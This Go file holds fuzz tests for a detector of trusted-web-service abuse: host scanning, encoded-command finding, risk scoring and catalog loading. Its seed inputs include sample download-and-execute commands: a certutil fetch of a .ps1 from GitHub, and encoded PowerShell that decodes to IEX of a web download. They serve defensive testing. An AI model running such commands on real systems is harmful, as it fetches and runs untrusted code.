package detect

import (
	"os"
	"path/filepath"
	"testing"
	"unicode/utf8"
)

func FuzzScanHosts(f *testing.F) {
	f.Add([]byte(`certutil -urlcache -f https://raw.githubusercontent.com/a/b.ps1 c.ps1`))
	f.Add([]byte(`iwr raw.githubusercontent.com/x -Uri github.com:443/y C:\x\github.com\z`))
	f.Fuzz(func(t *testing.T, text []byte) {
		ScanHosts(text, func(r HostRef) bool {
			if r.Start < 0 || r.End > len(text) || r.Start >= r.End {
				t.Fatalf("bad bounds %d..%d of %d", r.Start, r.End, len(text))
			}
			for _, c := range r.Host {
				if !isHostByte(c) {
					t.Fatalf("host %q has %q", r.Host, c)
				}
			}
			return true
		})
		NormalizeHost(nil, text)
	})
}

func FuzzFindEncoded(f *testing.F) {
	f.Add([]byte("powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA"), true)
	f.Add([]byte("node -e x \u2013ec \u00a0 ^-^e"), false)
	f.Fuzz(func(t *testing.T, cmd []byte, ps bool) {
		enc, ok := FindEncoded(cmd, ps)
		if !ok && (enc.How != "" || enc.Decoded != nil) {
			t.Fatalf("nothing found but %+v", enc)
		}
		if enc.Decoded != nil && !utf8.Valid(enc.Decoded) {
			t.Fatalf("decoded text is not UTF-8")
		}
	})
}

// FuzzScore: any event scores without panicking, within the rules' bounds.
func FuzzScore(f *testing.F) {
	c, err := LoadCatalog(filepath.Join("..", ".."), WebServicesLOTSFile)
	if err != nil {
		f.Fatal(err)
	}
	s := NewDetector(c).NewScorer()
	f.Add("1", `C:\x\powershell.exe`, "powershell -e SQBFAFgA https://pastebin.com/raw/x", `C:\x\WINWORD.EXE`, "", "", "PowerShell.EXE")
	f.Add("22", `/usr/bin/curl`, "", "", "", "raw.githubusercontent.com.", "")
	f.Add("3", `C:\x\git-remote-https.exe`, "", "", "github.com", "", "")
	f.Fuzz(func(t *testing.T, code, image, cmd, parent, dest, query, ofn string) {
		r := s.Score(&Event{EventCode: []byte(code), Image: []byte(image), CommandLine: []byte(cmd), ParentImage: []byte(parent),
			DestinationHostname: []byte(dest), QueryName: []byte(query), OriginalFileName: []byte(ofn)})
		if r.RiskScore < 0 || r.RiskScore > 100 {
			t.Fatalf("risk %d", r.RiskScore)
		}
		if r.Pass && (r.Category == "" || r.Allowlisted) {
			t.Fatalf("pass without a service or while allowlisted: %+v", r)
		}
		if r.SuspicionScore != b2i(r.Suspicious)+b2i(r.Encoded)+b2i(r.OfficeParent)+b2i(r.ServiceSpawn) {
			t.Fatalf("suspicion_score %d", r.SuspicionScore)
		}
	})
}

// FuzzCatalogFile: a web-service lookup either loads or fails with the
// file's name and a line.
func FuzzCatalogFile(f *testing.F) {
	f.Add("domain,category,tags\ngithub.com,github,C&C;Download\n*.x.com.,twitter,\n")
	f.Add("domain,category\n\"unterminated\n")
	f.Fuzz(func(t *testing.T, content string) {
		path := filepath.Join(t.TempDir(), WebServicesFile)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		svcs, err := loadServices(path)
		if err != nil {
			if _, ok := err.(*CatalogError); !ok {
				t.Fatalf("error without file and line: %v", err)
			}
			return
		}
		for _, s := range svcs {
			if string(NormalizeHost(nil, []byte(s.Domain))) != s.Domain {
				t.Fatalf("loaded a domain that does not normalise to itself: %q", s.Domain)
			}
		}
	})
}
